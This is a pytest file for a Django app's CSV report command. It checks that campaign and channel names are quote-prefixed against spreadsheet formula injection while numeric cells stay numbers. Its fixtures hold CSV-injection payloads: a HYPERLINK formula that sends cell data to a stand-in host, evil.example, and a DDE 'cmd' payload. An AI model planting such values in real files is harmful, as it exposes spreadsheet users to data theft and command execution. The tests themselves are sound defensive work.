"""``manage.py report ... --format csv`` guards its text cells against formulas as every other
export does (one guard: workspaces.csvsafe); numbers stay numbers (issue 9 audit, item F)."""

import csv
import io

import pytest
from django.core.management import call_command

from attribution.models import Channel
from funnel.snapshots import recompute_workspace
from workspaces.scoping import workspace_scope

from .engine_data import build_history
from .factories import CampaignFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)'


@pytest.fixture
def hostile_campaign(workspace):
    with workspace_scope(workspace):
        build_history(workspace, seed=7, n_leads=24)
        channel = Channel.objects.get(slug="webinar")
        channel.name = "+cmd|' /C calc'!A0"
        channel.save(update_fields=["name"])
        CampaignFactory(workspace=workspace, name=HOSTILE)
        recompute_workspace(workspace=workspace)
    return workspace


def report_csv(workspace, *args) -> list[dict]:
    out = io.StringIO()
    call_command("report", *args, "--workspace", workspace.slug, "--format", "csv", stdout=out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_the_campaign_report_guards_a_campaign_and_channel_that_would_run_as_formulas(hostile_campaign):
    [row] = [r for r in report_csv(hostile_campaign, "campaigns") if "HYPERLINK" in r["name"]]
    assert row["name"] == "'" + HOSTILE
    assert row["channel"] == "webinar"  # the channel's slug, left as it is
    assert float(row["cost"]) >= 0  # a number, unguarded
    assert not row["leads"].startswith("'")


def test_the_attribution_report_guards_its_names(hostile_campaign):
    rows = report_csv(hostile_campaign, "attribution", "--model", "first_touch", "--level", "lead", "--by", "channel")
    names = {r["name"] for r in rows}
    assert "'+cmd|' /C calc'!A0" in names and "+cmd|' /C calc'!A0" not in names
    assert all(not r["conversions"].startswith("'") for r in rows)
